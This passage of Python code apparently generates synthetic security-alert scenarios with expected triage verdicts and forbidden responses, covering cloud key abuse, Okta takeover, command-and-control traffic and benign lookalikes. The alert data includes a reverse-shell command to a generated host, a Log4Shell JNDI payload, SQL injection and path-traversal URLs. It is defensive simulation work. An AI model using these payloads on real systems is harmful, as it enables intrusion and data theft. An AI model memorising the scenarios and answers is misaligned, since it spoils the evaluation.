        evidence=["wazuh-ssrf", "guardduty-credential-exfiltration"],
        actions=[("isolate_host", instance), ("block_ip", attacker)],
    )
    forbid_defaults(s)
    s.forbid(("block_ip", EC2_PUBLIC_IPS[instance]), ("block_ip", "169.254.169.254"))


@template("cloud_abuse", 3)
def cloudtrail_disabled(s: Story, i: int) -> None:
    admin = ADMINS[i]
    key = "AKIA" + s.hex(16).upper()
    attacker = s.ext_ip()
    country = s.pick(HOSTILE_COUNTRIES)
    bucket = s.pick(_BUCKETS)
    s.start(s.night_time())
    s.title = f"{admin.user}'s AWS key stops CloudTrail from {country} at night"
    s.description = (
        f"At {s.t0:%H:%M} on a {s.t0:%A}, {admin.name}'s administrator key is used from "
        f"{attacker} ({country_name(country)}) to stop CloudTrail logging"
        + (f" and to open {bucket} to the public." if i < 2 else f" and to read {bucket}.")
    )
    s.alert(
        "guardduty-trail-stopped",
        s.at(0),
        guardduty_finding,
        finding_type="Stealth:IAMUser/CloudTrailLoggingDisabled",
        severity=2.0,
        title="AWS CloudTrail trail northwind-org-trail was disabled.",
        description=f"StopLogging was called by {admin.user}.",
        resource=gd_access_key(admin.user, key_id=key),
        action=gd_api("StopLogging", "cloudtrail.amazonaws.com", attacker, country),
    )
    techniques = ["T1078.004", "T1562.008"]
    if i < 2:
        s.alert(
            "guardduty-public-bucket",
            s.at(6),
            guardduty_finding,
            finding_type="Policy:S3/BucketBlockPublicAccessDisabled",
            severity=2.0,
            title=f"Amazon S3 Block Public Access was disabled for S3 bucket {bucket}.",
            description=f"DeletePublicAccessBlock was called by {admin.user}.",
            resource=gd_access_key(admin.user, key_id=key, buckets=[bucket]),
            action=gd_api("DeletePublicAccessBlock", "s3.amazonaws.com", attacker, country),
        )
        techniques.append("T1098")
    else:
        s.alert(
            "guardduty-bucket-read",
            s.at(8),
            guardduty_finding,
            finding_type="Exfiltration:S3/AnomalousBehavior",
            severity=8.0,
            title=f"Anomalous S3 data read by user {admin.user}.",
            description=f"{s.rng.randint(200, 800)} objects were read from {bucket}.",
            resource=gd_access_key(admin.user, key_id=key, buckets=[bucket]),
            action=gd_api("GetObject", "s3.amazonaws.com", attacker, country),
            count=s.rng.randint(200, 800),
        )
        techniques.append("T1530")
    s.case(
        "cloud-defense-evasion",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=["guardduty-trail-stopped"],
        actions=[
            ("revoke_sessions", admin.user),
            ("reset_password", admin.user),
            ("block_ip", attacker),
        ],
    )
    forbid_defaults(s)
    s.forbid(("block_ip", HQ_EGRESS))


@template("cloud_abuse", 4)
def okta_admin_escalation(s: Story, i: int) -> None:
    actor = (PEOPLE["sara.lindqvist"], PEOPLE["mia.costa"])[i % 2]
    attacker = s.ext_ip()
    country = s.pick(HOSTILE_COUNTRIES)
    rogue = s.pick(("svc-sync2", "okta-integration", "it.support2", "sso-bridge"))
    s.start(s.pick([s.evening_time(), s.night_time()]))
    s.title = f"{actor.name}'s Okta account grants itself Super Administrator from {country}"
    s.description = (
        f"{actor.name}'s Okta session is taken over from {attacker} "
        f"({country_name(country)}). The attacker grants the account Super Administrator, "
        "removes the MFA requirement from a sign-on policy rule and "
        + (
            "creates the account '" + rogue + "'."
            if i % 2
            else "resets the factors of the break-glass account."
        )
        + " The break-glass account is a victim here, not a suspect."
    )
    okta: dict[str, Any] = {"ip": attacker, "country": country}
    s.alert(
        "okta-session",
        s.at(0),
        okta_session,
        person=actor,
        risk="HIGH",
        threat_suspected=False,
        **okta,
    )
    s.alert(
        "okta-privilege-grant",
        s.at(4),
        okta_event,
        person=actor,
        event_type="user.account.privilege.grant",
        message="Grant user privilege",
        targets=[okta_target(actor)],
        request_uri="/api/v1/users/roles",
        **okta,
    )
    s.alert(
        "okta-policy-update",
        s.at(7),
        okta_event,
        person=actor,
        event_type="policy.rule.update",
        message="Update policy rule",
        targets=[
            {
                "id": "0pr" + s.hex(17),
                "type": "PolicyRule",
                "alternateId": "unknown",
                "displayName": "Require MFA outside the office",
                "detailEntry": None,
            }
        ],
        request_uri="/api/v1/policies/rules",
        **okta,
    )
    techniques = ["T1078.004", "T1098.003", "T1556.006"]
    if i % 2:
        rogue_person = Person(rogue, rogue, "IT", "Unknown", "standard", (), None, None)
        s.alert(
            "okta-user-created",
            s.at(10),
            okta_event,
            person=actor,
            event_type="user.lifecycle.create",
            message="Create okta user",
            targets=[okta_target(rogue_person)],
            request_uri="/api/v1/users",
            **okta,
        )
        techniques.append("T1136.003")
    else:
        s.alert(
            "okta-breakglass-reset",
            s.at(10),
            okta_event,
            person=actor,
            event_type="user.mfa.factor.reset_all",
            message="Reset all factors for user",
            targets=[
                {
                    "id": "00u" + digest("okta", "breakglass-admin", size=17),
                    "type": "User",
                    "alternateId": f"breakglass-admin@{DOMAIN}",
                    "displayName": "Break-glass administrator",
                    "detailEntry": None,
                }
            ],
            request_uri="/api/v1/users/lifecycle/reset_factors",
            **okta,
        )
    s.alert(
        "sentinel-privilege-grant",
        s.at(14),
        sentinel_alert,
        name="Okta: administrator privilege granted outside the change process",
        level=4,
        description="An Okta admin role was granted with no matching change ticket, "
        "from an address not seen for the account.",
        tactics=["Persistence", "PrivilegeEscalation"],
        techniques=["T1098.003"],
        entities=[se_account(actor.user), se_ip(attacker, country)],
        extended={"Data Sources": '["Okta_CL"]'},
    )
    s.case(
        "idp-takeover",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=["okta-privilege-grant", "okta-policy-update", "sentinel-privilege-grant"],
        actions=[
            ("revoke_sessions", actor.user),
            ("reset_password", actor.user),
            ("block_ip", attacker),
        ],
    )
    forbid_defaults(s)
    s.forbid(("reset_password", "breakglass-admin"), ("revoke_sessions", "breakglass-admin"))


@template("cloud_abuse", 3)
def ec2_ssh_then_c2(s: Story, i: int) -> None:
    instance = PUBLIC_INSTANCES[i % 2]
    brute = s.ext_ip()
    brute_country = s.pick(HOSTILE_COUNTRIES)
    c2_ip, c2_domain = s.ext_ip(), s.domain()
    s.start(s.pick([s.night_time(), s.evening_time()]))
    s.title = f"SSH brute force on {instance}, then command-and-control traffic"
    s.description = (
        f"{brute} ({country_name(brute_country)}) brute-forces SSH on {instance}; an hour later "
        f"the instance talks to {c2_domain}, a command-and-control server: the guessing worked."
    )
    s.alert(
        "guardduty-ssh-brute-force",
        s.at(0),
        guardduty_finding,
        finding_type="UnauthorizedAccess:EC2/SSHBruteForce",
        severity=2.0,
        title=f"{brute} is performing SSH brute force attacks against {instance}.",
        description=f"{brute} is performing SSH brute force attacks against {instance}. "
        "Brute force attacks are used to gain unauthorized access to your instance.",
        resource=gd_instance(instance),
        action=gd_connection(
            "INBOUND",
            brute,
            brute_country,
            remote_port=s.rng.randint(40000, 60000),
            local_port=22,
        ),
        count=s.rng.randint(200, 2000),
        first_seen=s.at(-90),
    )
    if i == 2:
        s.alert(
            "guardduty-c2",
            s.at(55),
            guardduty_finding,
            finding_type="Backdoor:EC2/C&CActivity.B",
            severity=8.0,
            title=f"EC2 instance {instance} is communicating with a command and control server.",
            description=f"{instance} is connecting to {c2_ip}, a known command and control server.",
            resource=gd_instance(instance),
            action=gd_connection(
                "OUTBOUND", c2_ip, "NL", remote_port=443, local_port=s.rng.randint(40000, 60000)
            ),
            role="ACTOR",
        )
    else:
        s.alert(
            "guardduty-c2",
            s.at(55),
            guardduty_finding,
            finding_type="Backdoor:EC2/C&CActivity.B!DNS",
            severity=8.0,
            title=f"EC2 instance {instance} is querying a domain name associated with a known "
            "command and control server.",
            description=f"{instance} is querying {c2_domain}.",
            resource=gd_instance(instance),
            action=gd_dns(c2_domain),
            role="ACTOR",
        )
    s.case(
        "ssh-then-c2",
        s.refs(),
        "true_positive",
        techniques=["T1110.001", "T1071.004" if i != 2 else "T1071.001"],
        evidence=["guardduty-ssh-brute-force", "guardduty-c2"],
        actions=[
            ("isolate_host", instance),
            ("block_ip", brute),
            ("block_domain", c2_domain) if i != 2 else ("block_ip", c2_ip),
        ],
    )
    forbid_defaults(s)
    s.forbid(("block_ip", EC2_PUBLIC_IPS[instance]))


@template("cloud_abuse", 3)
def dev_account_cryptomining(s: Story, i: int) -> None:
    instance = "i-0d4e5f60718293a41"
    pool_ip = s.ext_ip()
    miner = s.sha256()
    s.difficulty = "hard"
    s.start(s.pick([s.workday_time(), s.night_time(), s.evening_time()]))
    s.title = f"Mining on the development build agent {instance}"
    s.description = (
        f"{instance}, a low-criticality development build agent that routinely runs untrusted "
        f"code, starts mining to {pool_ip} after a poisoned dependency runs in a build. The "
        "environment is 'development', but the instance role can read build secrets."
    )
    s.alert(
        "guardduty-mining",
        s.at(0),
        guardduty_finding,
        finding_type="CryptoCurrency:EC2/BitcoinTool.B",
        severity=5.0,
        title=f"EC2 instance {instance} is communicating with a Bitcoin mining pool.",
        description=f"{instance} connects to {pool_ip}:3333.",
        resource=gd_instance(instance),
        action=gd_connection(
            "OUTBOUND", pool_ip, "NL", remote_port=3333, local_port=s.rng.randint(40000, 60000)
        ),
        role="ACTOR",
        count=s.rng.randint(50, 500),
    )
    techniques = ["T1496"]
    if i == 1:
        s.alert(
            "guardduty-reverse-shell",
            s.at(-20),
            guardduty_finding,
            finding_type="Execution:Runtime/ReverseShell",
            severity=8.0,
            title=f"A process on {instance} opened a reverse shell.",
            description="A process redirected a shell to a remote address.",
            resource=gd_instance(instance),
            action={},
            role="ACTOR",
            runtime=runtime_process(
                "bash",
                "/usr/bin/bash",
                SIGNED["curl"],
                f"bash -i >& /dev/tcp/{pool_ip}/4444 0>&1",
                "builder",
            ),
        )
        techniques.append("T1059.004")
    if i == 2:
        s.alert(
            "guardduty-new-binary",
            s.at(-3),
            guardduty_finding,
            finding_type="Execution:Runtime/NewBinaryExecuted",
            severity=2.0,
            title=f"A newly created binary was executed on {instance}.",
            description="A binary written by a build step was executed.",
            resource=gd_instance(instance),
            action={},
            role="ACTOR",
            runtime=runtime_process(
                "node-gyp-build",
                "/tmp/npm-2231/node-gyp-build",
                miner,
                "node-gyp-build --threads 8",
                "builder",
            ),
        )
        techniques.append("T1195.002")
    s.case(
        "dev-cryptomining",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=["guardduty-mining"],
        actions=[("isolate_host", instance), ("block_ip", pool_ip)],
    )
    forbid_defaults(s)
    s.forbid(("block_ip", EC2_PUBLIC_IPS[instance]), ("isolate_host", "SRV-BUILD-01"))


@template("cloud_abuse", 3)
def c2_among_port_probes(s: Story, i: int) -> None:
    instance = PUBLIC_INSTANCES[i % 2]
    c2 = s.ext_ip()
    s.intel(c2, "ip", "Command-and-control server of a Linux botnet", 85)
    s.difficulty = "hard"
    day = s.pick(WORKDAYS[5:])
    s.start(clock(day, s.rng.randint(1, 20), s.rng.randint(0, 59)))
    s.title = f"C2 traffic from {instance} among three days of internet port probes"
    s.description = (
        f"{instance} is probed from the internet every few hours, as every public host is. "
        f"Among those findings, one shows it connecting out to {c2}, a botnet controller."
    )
    probes: list[str] = []
    minute = -3 * 24 * 60
    while minute < -30:
        when = s.at(minute)
        prober = s.ext_ip()
        port, name = s.pick(
            ((22, "SSH"), (3389, "RDP"), (23, "Telnet"), (5900, "VNC"), (6379, "Redis"))
        )
        probes.append(
            s.alert(
                f"guardduty-probe-{len(probes) + 1:02d}",
                when,
                guardduty_finding,
                finding_type="Recon:EC2/PortProbeUnprotectedPort",
                severity=2.0,
                title=f"Unprotected port on EC2 instance {instance} is being probed.",
                description=PORT_PROBE,
                resource=gd_instance(instance),
                action=gd_probe(ip_of(instance), [(port, name, prober, s.pick(HOSTILE_COUNTRIES))]),
                count=s.rng.randint(2, 40),
            )
        )
        minute += s.rng.randint(3 * 60, 7 * 60)
    s.alert(
        "guardduty-c2",
        s.at(0),
        guardduty_finding,
        finding_type="Backdoor:EC2/C&CActivity.B",
        severity=8.0,
        title=f"EC2 instance {instance} is communicating with a command and control server.",
        description=f"{instance} is connecting to {c2}.",
        resource=gd_instance(instance),
        action=gd_connection(
            "OUTBOUND", c2, "MD", remote_port=8443, local_port=s.rng.randint(40000, 60000)
        ),
        role="ACTOR",
    )
    s.case(
        "botnet-c2",
        ["guardduty-c2"],
        "true_positive",
        techniques=["T1071.001"],
        evidence=["guardduty-c2"],
        actions=[("isolate_host", instance), ("block_ip", c2)],
    )
    s.case("port-probes", probes, "benign_positive", evidence=probes[:1])
    forbid_defaults(s)
    s.forbid(("block_ip", EC2_PUBLIC_IPS[instance]))


# ============================================================================================
# benign_lookalike
# ============================================================================================

NMAP_UA = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"


def web_attack(
    at: datetime,
    server: Asset,
    src: str,
    url: str,
    *,
    rule_id: str = "31104",
    level: int = 6,
    description: str = "Common web attack.",
    status: str = "404",
    ua: str = NMAP_UA,
    techniques: Sequence[str] = ("T1190",),
) -> Record:
    """Wazuh: a web attack pattern in a web server's access log."""
    return wazuh_alert(
        at,
        server,
        rule_id=rule_id,
        level=level,
        description=description,
        groups=["web", "accesslog", "attack"],
        techniques=techniques,
        data={"protocol": "GET", "srcip": src, "id": status, "url": url},
        full_log=f'{src} - - [{at:%d/%b/%Y:%H:%M:%S} +0000] "GET {url} HTTP/1.1" {status} 153 '
        f'"-" "{ua}"',
        location="/var/log/nginx/access.log",
        decoder={"name": "web-accesslog"},
    )


_SCAN_SIGNATURES = (
    (2010937, "ET SCAN Suspicious inbound to mySQL port 3306", 3306, 2),
    (2010935, "ET SCAN Suspicious inbound to MSSQL port 1433", 1433, 2),
    (2002910, "ET SCAN Potential VNC Scan 5900-5920", 5900, 2),
    (2001569, "ET SCAN Behavioral Unusual Port 445 traffic Potential Scan or Infection", 445, 2),
    (2010939, "ET SCAN Suspicious inbound to PostgreSQL port 5432", 5432, 2),
)


@template("benign_lookalike", 5)
def approved_scanner_sweep(s: Story, i: int) -> None:
    scanner = asset(("SCAN-01", "SCAN-02")[i % 2])
    src = scanner.ips[0]
    web = asset(s.pick(WEB_SERVERS))
    targets = [
        asset(h)
        for h in s.sample(
            ("SRV-APP-03", "SRV-APP-04", "SRV-FS-01", "SRV-FS-02", "SRV-DB-02", "SRV-JUMP-01"), 3
        )
    ]
    s.start(
        clock(s.pick(WORKDAYS), s.rng.randint(5, 6), s.rng.randint(0, 50))
        if i != 3
        else s.night_time()
    )
    s.title = f"Scheduled vulnerability scan from {scanner.hostname}"
    s.description = (
        f"The approved scanner {scanner.hostname} ({src}) runs its scheduled sweep of the "
        f"server network: Suricata sees scan signatures and {web.hostname}'s web logs show "
        "attack patterns, all from the scanner."
    )
    s.alert(
        "suricata-nmap-ua",
        s.at(0),
        suricata_alert,
        src=src,
        dst=web.ips[0],
        dport=80,
        sid=2009358,
        signature="ET SCAN Nmap Scripting Engine User-Agent Detected (Nmap Scripting Engine)",
        category="Web Application Attack",
        priority=1,
        techniques=["T1595"],
        app_proto="http",
        signature_severity="Minor",
        extra={
            "http": {
                "hostname": web.ips[0],
                "url": f"/nmaplowercheck{s.hex(8)}",
                "http_user_agent": NMAP_UA,
                "http_method": "GET",
                "protocol": "HTTP/1.1",
                "status": 404,
                "length": 153,
            }
        },
    )
    for k, (target, (sid, signature, port, priority)) in enumerate(
        zip(targets, s.sample(_SCAN_SIGNATURES, 3), strict=True)
    ):
        when = s.at(1 + k)
        s.alert(
            f"suricata-scan-{target.hostname}",
            when,
            suricata_alert,
            src=src,
            dst=target.ips[0],
            dport=port,
            sid=sid,
            signature=signature,
            category="Potentially Bad Traffic",
            priority=priority,
            signature_severity="Informational",
        )
    urls = [
        "/cgi-bin/..%2F..%2F..%2F..%2Fetc/passwd",
        "/.git/config",
        "/catalog/item.php?id=1%20union%20select%20null,null,null--",
    ]
    for k, url in enumerate(urls[: 2 + i % 2]):
        when = s.at(4 + k)
        sql = "union" in url
        s.alert(
            f"wazuh-web-{k + 1}",
            when,
            web_attack,
            web,
            src,
            url,
            rule_id="31103" if sql else "31104",
            level=7 if sql else 6,
            description="SQL injection attempt." if sql else "Common web attack.",
        )
    s.case(
        "scheduled-scan", s.refs(), "benign_positive", evidence=["suricata-nmap-ua", "wazuh-web-1"]
    )
    forbid_defaults(s)
    s.forbid(("block_ip", src), ("isolate_host", scanner.hostname), ("isolate_host", web.hostname))


@template("benign_lookalike", 5)
def patching_in_window(s: Story, i: int) -> None:
    servers = [
        asset(h)
        for h in s.sample(
            ("SRV-APP-03", "SRV-APP-04", "SRV-FS-01", "SRV-FS-02", "SRV-PRINT-01", "SRV-JUMP-01"),
            1 + i % 3,
        )
    ]
    day = s.pick(WEEKENDS if i % 2 == 0 else WORKDAYS)
    start = clock(day, 22 if i % 2 == 0 else 20)
    change = f"CHG-{s.rng.randint(20000, 29999)}"
    product = s.pick(
        (
            ("AppServerAgent", "8.4.2"),
            ("NorthwindFleetService", "3.1.0"),
            ("PrintGateway", "2026.11"),
            ("BackupAgent", "12.2.1"),
        )
    )
    s.window(
        change,
        f"Monthly patching: {product[0]} {product[1]} and Windows updates",
        [a.hostname for a in servers],
        start,
        4,
    )
    s.start(start)
    s.title = f"Patching of {len(servers)} server(s) inside change window {change}"
    s.description = (
        f"Configuration Manager installs {product[0]} {product[1]} on "
        f"{', '.join(a.hostname for a in servers)} inside the approved window {change}; the "
        "installer creates and restarts services and the EDR and file-integrity monitoring "
        "report it."
    )
    ccm = Proc("C:\\Windows\\CCM\\CcmExec.exe", "C:\\Windows\\CCM\\CcmExec.exe")
    msi = winproc(
        "msiexec.exe",
        f'msiexec.exe /i "C:\\Windows\\ccmcache\\{s.hex(2)}\\'
        f'{product[0]}-{product[1]}-x64.msi" /qn /norestart',
        ccm,
    )
    binary = f"C:\\Program Files\\Northwind\\{product[0]}\\agent.exe"
    for k, server in enumerate(servers):
        base = 15 + k * 40
        create = winproc(
            "sc.exe", f'sc.exe create {product[0]} binPath= "{binary}" start= auto', msi
        )
        s.alert(
            f"falcon-service-{server.hostname}",
            s.at(base),
            crowdstrike_detection,
            server,
            user="SYSTEM",
            name="Suspicious Activity",
            description="A process created or modified a Windows service. Adversaries may "
            "create services to persist on a host.",
            level=2,
            proc=create,
            techniques=["T1543.003"],
        )
        stop = winproc("net.exe", f"net.exe stop {product[0]} /y", msi)
        s.alert(
            f"falcon-stop-{server.hostname}",
            s.at(base + 5),
            crowdstrike_detection,
            server,
            user="SYSTEM",
            name="Suspicious Activity",
            description="A process stopped a service. Adversaries may stop services to disrupt "
            "a system or to disable security tools.",
            level=2,
            proc=stop,
            techniques=["T1489"],
        )
        when = s.at(base + 1)
        s.alert(
            f"wazuh-new-service-{server.hostname}",
            when,
            wazuh_alert,
            server,
            rule_id="61138",
            level=5,
            description="New Windows Service Created",
            groups=["windows", "windows_system"],
            techniques=["T1543.003"],
            data=win_event(
                when,
                server,
                provider="Service Control Manager",
                event_id="7045",
                channel="System",
                message="A service was installed in the system.",
                eventdata={
                    "serviceName": product[0],
                    "imagePath": f'"{binary}"',
                    "serviceType": "user mode service",
                    "startType": "auto start",
                    "accountName": "LocalSystem",
                },
            ),
        )
        if i >= 2:
            when = s.at(base - 2)
            path = binary.lower()
            s.alert(
                f"wazuh-file-added-{server.hostname}",
                when,
                wazuh_alert,
                server,
                rule_id="554",
                level=5,
                description="File added to the system.",
                groups=["ossec", "syscheck", "syscheck_entry_added", "syscheck_file"],
                full_log=f"File '{path}' added\nMode: realtime\n",
                location="syscheck",
                decoder={"name": "syscheck_new_entry"},
                syscheck={
                    "path": path,
                    "mode": "realtime",
                    "size_after": "4812288",
                    "sha256_after": s.sha256(),
                    "uname_after": "Administrators",
                    "event": "added",
                },
            )
    s.case(
        "planned-patching",
        s.refs(),
        "benign_positive",
        evidence=[
            f"falcon-service-{servers[0].hostname}",
            f"wazuh-new-service-{servers[0].hostname}",
        ],
    )
    forbid_defaults(s)
    s.forbid(
        *(("isolate_host", a.hostname) for a in servers),
        ("block_hash", SIGNED["sc.exe"]),
        ("block_hash", SIGNED["net.exe"]),
        ("block_hash", SIGNED["msiexec.exe"]),
    )


_PENTESTERS = ("Bluefin Security", "Redline Assurance", "Harbourlight Labs")


@template("benign_lookalike", 5)
def approved_pentest(s: Story, i: int) -> None:
    firm = _PENTESTERS[i % 3]
    sow = f"SOW-2026-{s.rng.randint(100, 199)}"
    hard = i >= 3
    s.difficulty = "hard" if hard else "standard"
    day = s.pick(WORKDAYS)
    s.start(clock(day, s.rng.randint(9, 15), s.rng.randint(0, 59)))
    if i == 4:
        src_host = Asset(
            hostname="PT-LAPTOP-01",
            ips=("10.20.250.10",),
            owner="secops",
            business_unit="Security",
            criticality="low",
            environment="test",
            role="pentest_workstation",
            os="Kali Linux 2026.3",
        )
        s.assets.append(src_host)
        src = src_host.ips[0]
        s.scanners.append(
            Scanner(
                name=f"Internal penetration test by {firm} ({sow})",
                ips=(src,),
                hostnames=(src_host.hostname,),
                approved_by=f"ciso ({sow})",
            )
        )
        tester = Person(
            "pt-tester",
            f"{firm} tester",
            "Security",
            "External penetration tester",
            "standard",
            ("DE",),
            None,
            None,
            password_changed="2026-11-01",
        )
        s.identities.append(identity(tester))
    else:
        src = s.ext_ip(("192.0.2",))
        s.scanners.append(
            Scanner(
                name=f"External penetration test by {firm} ({sow})",
                ips=(src,),
                approved_by=f"ciso ({sow})",
            )
        )
    s.title = f"Approved penetration test by {firm} ({sow})" + (
        ": password spray against Okta"
        if i == 3
        else ": internal lateral movement"
        if i == 4
        else ": web application attacks"
    )
    s.description = (
        f"{firm} tests Northwind under {sow}, approved by the CISO, from {src}, during the "
        f"agreed window on {day:%A %d %B}. "
        + (
            "The scope includes a password spray against Okta: it looks exactly like an attack, "
            "with high-severity ThreatInsight alerts."
            if i == 3
            else "The scope includes the test network: the tester relays credentials and runs "
            "PsExec against TEST-SRV-01 from the pentest laptop."
            if i == 4
            else "The testers throw SQL injection and Log4Shell payloads at the web servers."
        )
    )
    evidence: list[str] = []
    if i < 3:
        web = asset(WEB_SERVERS[i % 2])
        s.alert(
            "suricata-sqli",
            s.at(0),
            suricata_alert,
            src=src,
            dst=web.ips[0],
            dport=443,
            sid=2006446,
            signature="ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT",
            category="Web Application Attack",
            priority=1,
            techniques=["T1190"],
            app_proto="http",
            extra={
                "http": {
                    "hostname": "shop.northwind.example",
                    "url": "/catalog/item.php?id=1%20UNION%20SELECT%20username,password"
                    "%20FROM%20users--",
                    "http_method": "GET",
                    "status": 500,
                    "http_user_agent": "sqlmap/1.8.11#stable (https://sqlmap.org)",
                }
            },
        )
        s.alert(
            "suricata-log4j",
            s.at(7),
            suricata_alert,
            src=src,
            dst=web.ips[0],
            dport=443,
            sid=2034647,
            signature="ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
            category="Attempted Administrator Privilege Gain",
            priority=1,
            techniques=["T1190"],
            app_proto="http",
            extra={
                "http": {
                    "hostname": "shop.northwind.example",
                    "url": "/login",
                    "http_method": "POST",
                    "status": 401,
                    "http_user_agent": "${jndi:ldap://" + src + ":1389/a}",
                }
            },
        )
        s.alert(
            "wazuh-sqli",
            s.at(1),
            web_attack,
            web,
            src,
            "/catalog/item.php?id=1%20UNION%20SELECT%20username,password--",
            rule_id="31103",
            level=7,
            description="SQL injection attempt.",
            status="500",
            ua="sqlmap/1.8.11#stable (https://sqlmap.org)",
        )
        if i == 2:
            s.alert(
                "wazuh-web-success",
                s.at(12),
                web_attack,
                web,
                src,
                "/admin/../../etc/passwd",
                rule_id="31106",
                level=6,
                description="A web attack returned code 200 (success).",
                status="200",
                ua="Mozilla/5.0 (X11; Linux x86_64) Burp Suite Professional",
            )
        evidence = ["suricata-sqli", "suricata-log4j"]
        s.forbid(("isolate_host", web.hostname))
    elif i == 3:
        sprayed: list[Person] = s.sample(OFFICE_STAFF, 6)
        for k, person in enumerate(sprayed):
            when = s.at(k)
            s.alert(f"okta-failed-{person.user}", when, okta_failed_login, person, src, "DE")
        s.alert("okta-threat", s.at(7), okta_spray_threat, src, "DE")
        evidence = ["okta-threat"]
        s.forbid(
            *(("disable_user", p.user) for p in sprayed[:3]),
            *(("reset_password", p.user) for p in sprayed[:3]),
        )
    else:
        target = asset("TEST-SRV-01")
        src_host = s.assets[0]
        s.alert(
            "defender-recon",
            s.at(0),
            defender_alert,
            title="Network-scanning reconnaissance (SMB sessions enumeration)",
            level=3,
            description=f"{src_host.hostname} enumerated SMB sessions on the domain controller.",
            category="Discovery",
            techniques=["T1135"],
            source="microsoftDefenderForIdentity",
            evidence=[dv_device(src_host, roles=("source",)), dv_user("pt-tester")],
        )
        s.alert("suricata-psexec", s.at(20), psexec_copy, src_host, target)
        s.alert(
            "wazuh-psexec-shell",
            s.at(20.5),
            psexesvc_shell,
            target,
            "pt-tester",
            'cmd.exe /c "whoami /priv & hostname"',
        )
        evidence = ["suricata-psexec", "defender-recon"]
        s.forbid(
            ("isolate_host", src_host.hostname),
            ("disable_user", "pt-tester"),
            ("isolate_host", target.hostname),
        )
    s.case("penetration-test", s.refs(), "benign_positive", evidence=evidence)
    forbid_defaults(s)
    s.forbid(("block_ip", src))


_ADMIN_COMMANDS = (
    'cmd.exe /c "gpupdate /force & ipconfig /flushdns"',
    'cmd.exe /c "sc query AppServerAgent & net stop AppServerAgent & net start AppServerAgent"',
    'cmd.exe /c "wmic qfe list brief > C:\\Windows\\Temp\\patches.txt"',
    'cmd.exe /c "certutil -pulse & klist purge"',
)


@template("benign_lookalike", 4)
def admin_psexec_at_work(s: Story, i: int) -> None:
    admin = (PEOPLE["bob.nguyen"], PEOPLE["priya.shah"])[i % 2]
    ws = laptop(admin)
    servers = [
        asset(h)
        for h in s.sample(
            [
                h
                for h in managed_by(admin)
                if h.startswith("SRV-") and asset(h).os == WIN_SERVER and not asset(h).crown_jewel
            ],
            2 + i % 2,
        )
    ]
    s.difficulty = "hard"
    s.start(s.workday_time(9, 15))
    change = f"CHG-{s.rng.randint(30000, 39999)}"
    if i in (0, 2):
        s.window(
            change,
            "Restart application services after a configuration change",
            [a.hostname for a in servers],
            s.t0 - timedelta(minutes=30),
            3,
        )
    s.title = f"{admin.name} runs PsExec on {len(servers)} servers they manage" + (
        f" in change window {change}" if i in (0, 2) else " during the working day"
    )
    s.description = (
        f"{admin.name}, an administrator of {', '.join(a.hostname for a in servers)}, uses "
        f"PsExec from {ws.hostname} at {s.t0:%H:%M} on a {s.t0:%A} to run maintenance "
        "commands. PsExec is what attackers use too; here it is the admin's normal tool"
        + (f", inside the approved change {change}." if i in (0, 2) else ".")
    )
    command = _ADMIN_COMMANDS[i]
    for k, server in enumerate(servers):
        base = k * 4
        s.alert(f"suricata-psexec-{server.hostname}", s.at(base), psexec_copy, ws, server)
        s.alert(
            f"wazuh-psexec-{server.hostname}",
            s.at(base + 0.5),
            psexesvc_shell,
            server,
            admin.user,
            command,
        )
    s.alert("defender-psexec", s.at(1), defender_psexec, servers[0], ws, admin.user)
    s.case(
        "admin-maintenance",
        s.refs(),
        "benign_positive",
        evidence=["defender-psexec", f"wazuh-psexec-{servers[0].hostname}"],
    )
    forbid_defaults(s)
    s.forbid(
        ("disable_user", admin.user),
        ("isolate_host", ws.hostname),
        *(("isolate_host", a.hostname) for a in servers),
        ("block_hash", SIGNED["PSEXESVC.exe"]),
    )


@template("benign_lookalike", 4)
def user_travelling(s: Story, i: int) -> None:
    traveller = TRAVELLERS[i % len(TRAVELLERS)]
    trip = s.pick([c for c in TRIP_COUNTRIES if c not in traveller.countries])
    hotel = s.ext_ip(("192.0.2", "198.51.100", "203.0.113"))
    s.difficulty = "hard"
    s.start(clock(s.pick(WORKDAYS), s.rng.randint(6, 20), s.rng.randint(0, 59)))
    city = GEO[trip][0]
    s.title = f"{traveller.name} signs in from {city} on a business trip"
    s.description = (
        f"{traveller.name} ({traveller.role}) flew to {city} for customer meetings (the trip is "
        f"in the travel system). The first sign-in from the hotel ({hotel}) comes 14 hours "
        "after the last one from Hamburg, from the enrolled laptop with Okta FastPass: "
        "identity protection flags the travel anyway."
    )
    okta: dict[str, Any] = {
        "person": traveller,
        "ip": hotel,
        "country": trip,
        "new_device": False,
        "ua": MAC_UA if i % 2 else BROWSER_UA,
    }
    s.alert("okta-mfa", s.at(0), okta_mfa_ok, risk="MEDIUM", credential_type="SIGNED_NONCE", **okta)
    s.alert("okta-session", s.at(0.1), okta_session, risk="MEDIUM", threat_suspected=False, **okta)
    s.alert(
        "sentinel-travel",
        s.at(3),
        identity_protection,
        name="Atypical travel",
        alert_type="ImpossibleTravel",
        level=3,
        description=ATYPICAL_TRAVEL,
        user=traveller.user,
        ip=hotel,
        country=trip,
        previous=(HQ_EGRESS, "DE"),
    )
    if i == 2:
        s.alert(
            "defender-infrequent-country",
            s.at(9),
            defender_alert,
            title="Activity from infrequent country",
            level=2,
            description=f"{traveller.user} was active from {country_name(trip)}, a country not "
            "recently seen in the organization.",
            category="InitialAccess",
            techniques=["T1078"],
            source="microsoftDefenderForCloudApps",
            evidence=[dv_user(traveller.user), dv_ip(hotel, country=trip)],
        )
    s.case(
        "business-trip", s.refs(), "benign_positive", evidence=["sentinel-travel", "okta-session"]
    )
    forbid_defaults(s)
    s.forbid(
        ("disable_user", traveller.user),
        ("reset_password", traveller.user),
        ("revoke_sessions", traveller.user),
        ("block_ip", hotel),
    )


_UPDATERS = (
    (
        "Kestrel ERP client",
        "KestrelUpdate.exe",
        "C:\\Program Files (x86)\\Kestrel\\Updater",
        "updates.kestrel-erp.example",
        "Kestrel Software GmbH",
    ),
    (
        "RouteMaster planner",
        "rmupdater.exe",
        "C:\\Program Files\\RouteMaster\\bin",
        "dl.routemaster.example",
        "RouteMaster Ltd",
    ),
    (
        "Datalogic scanner utility",
        "DLUpdate.exe",
        "C:\\Program Files\\Datalogic\\Update",
